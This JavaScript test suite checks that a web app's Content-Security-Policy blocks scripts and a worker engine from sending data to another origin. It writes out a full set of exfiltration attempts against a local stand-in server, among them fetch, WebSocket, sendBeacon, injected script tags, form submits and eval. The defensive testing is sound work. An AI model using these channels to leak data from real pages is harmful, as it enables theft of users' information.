// Nothing can be sent to another origin, neither by a script of the page nor by the engine.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { after, before, beforeEach, test } from "node:test";
import { song } from "./support/audio.mjs";
import { classify, fakeMicrophone, launch, line, open } from "./support/browser.mjs";
import { dist, serve } from "./support/site.mjs";
import { text } from "./support/texts.mjs";

let site, browser, foreign, arrived;
before(async () => {
  site = await serve();
  browser = await launch({ gpu: false, args: fakeMicrophone() });
  // Another origin, which accepts anything.
  foreign = createServer((request, response) => {
    arrived.add(request.url);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" }).end();
  });
  foreign.on("upgrade", (request, socket) => {
    arrived.add(request.url);
    socket.destroy();
  });
  await new Promise((resolve) => foreign.listen(0, "127.0.0.1", resolve));
});
beforeEach(() => {
  arrived = new Set();
});
after(async () => {
  await browser?.close();
  await site?.close();
  foreign?.close();
  foreign?.closeAllConnections();
});

const address = () => `localhost:${foreign.address().port}`;

/** Tries every way in which a worker can send data, and returns those that worked. Runs in the worker. */
async function leakFromWorker(address) {
  const ways = {
    fetch: () => fetch(`http://${address}/fetch`, { method: "POST", body: "song" }),
    blind: () => fetch(`http://${address}/blind`, { mode: "no-cors" }),
    request: () =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.open("POST", `http://${address}/request`);
        request.onload = resolve;
        request.onerror = reject;
        request.send("song");
      }),
    socket: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`ws://${address}/socket`);
        socket.onopen = resolve;
        socket.onerror = reject;
      }),
    events: () =>
      new Promise((resolve, reject) => {
        const source = new EventSource(`http://${address}/events`);
        source.onopen = resolve;
        source.onerror = () => (source.close(), reject());
      }),
    module: () => import(`http://${address}/module`),
    worker: () =>
      new Promise((resolve, reject) => {
        const text = `fetch("http://${address}/worker").then(() => postMessage(1), () => postMessage(0))`;
        const worker = new Worker(URL.createObjectURL(new Blob([text])));
        worker.onmessage = ({ data }) => (data ? resolve() : reject());
        worker.onerror = reject;
      }),
  };
  const timeout = () => new Promise((_, reject) => setTimeout(reject, 3000));
  const out = [];
  for (const [name, go] of Object.entries(ways)) {
    try {
      await Promise.race([go(), timeout()]);
      out.push(name);
    } catch {
      // Refused.
    }
  }
  return out;
}

/** Tries the further ways in which a page can send data. Runs in the page. */
async function leakFromPage(address) {
  const url = (name) => `http://${address}/${name}`;
  navigator.sendBeacon(url("beacon"), "song");
  new Image().src = url("image");
  const put = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
  put("script", { src: url("script") });
  put("script", { textContent: `fetch("${url("inline")}")` });
  put("link", { rel: "stylesheet", href: url("style") });
  put("link", { rel: "prefetch", href: url("prefetch") });
  put("iframe", { src: url("frame") });
  put("object", { data: url("object") });
  put("audio", { src: url("sound"), preload: "auto" });
  const form = document.createElement("form");
  Object.assign(form, { action: url("form"), method: "post", target: "_blank" });
  document.body.append(form);
  form.submit();
  try {
    // An indirect eval, as an injected script would use it.
    (0, eval)(`fetch("${url("eval")}")`);
  } catch {
    // Refused.
  }
  new FontFace("stolen", `url(${url("font")})`).load().catch(() => {});
  await new Promise((resolve) => setTimeout(resolve, 1500));
}

async function leaks(page) {
  const engine = await page.workers()[0].evaluate(leakFromWorker, address());
  const fromEngine = [...arrived];
  arrived.clear();
  const script = await page.evaluate(leakFromWorker, address());
  await page.evaluate(leakFromPage, address());
  return { engine, fromEngine, script, fromPage: [...arrived] };
}

test("neither a script of the page nor the engine can send anything to another origin", async () => {
  const page = await open(browser, site.url);
  const found = await leaks(page);
  assert.deepEqual(found, { engine: [], fromEngine: [], script: [], fromPage: [] });
  await page.context().close();
});

test("without the policy the same attempts succeed, so the test above can fail", async () => {
  const html = readFileSync(join(dist, "index.html"), "utf8");
  site.replace.set("/index.html", Buffer.from(html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "")));
  const page = await open(browser, site.url);
  const found = await leaks(page);
  console.log(`without the policy: ${found.fromEngine.join(" ")} and ${found.fromPage.join(" ")}`);
  for (const name of ["/fetch", "/socket", "/module", "/worker"]) assert.ok(found.fromEngine.includes(name), name);
  for (const name of ["/fetch", "/beacon", "/image", "/script", "/inline", "/frame", "/form", "/eval"]) {
    assert.ok(found.fromPage.includes(name), name);
  }
  site.replace.clear();
  await page.context().close();
});

test("the policy is the first element of the head, and blocks nothing that the page does", async () => {
  const html = readFileSync(join(dist, "index.html"), "utf8");
  assert.match(html, /<head>\s*<meta http-equiv="Content-Security-Policy" content="default-src 'none';/);
  assert.doesNotMatch(html, /unsafe-inline|'unsafe-eval'|https?:/);
  const refused = [];
  const page = await open(browser, site.url, {
    context: { permissions: ["microphone"] },
    before: (page) =>
      page.addInitScript(() => {
        window.refused = [];
        document.addEventListener("securitypolicyviolation", (event) => {
          window.refused.push(`${event.violatedDirective} ${event.blockedURI}`);
        });
      }),
  });
  page.on("console", (message) => {
    if (/content security policy/i.test(message.text())) refused.push(message.text());
  });
  const { state, message } = await classify(page, song());
  assert.equal(state, "done", message);
  await page.click("#play");
  await page.waitForFunction(() => document.querySelector("#audio").currentTime > 0.2);
  await page.click("#record");
  await page.waitForSelector('body[data-state="recording"]');
  await page.waitForFunction(() => document.querySelector("#elapsed-time").textContent !== "0:00");
  await page.click("#discard");
  assert.deepEqual([...refused, ...(await page.evaluate(() => window.refused))], []);
  assert.equal(await line(page, "#policy-line"), text("presence.policy"));
  await page.context().close();
});
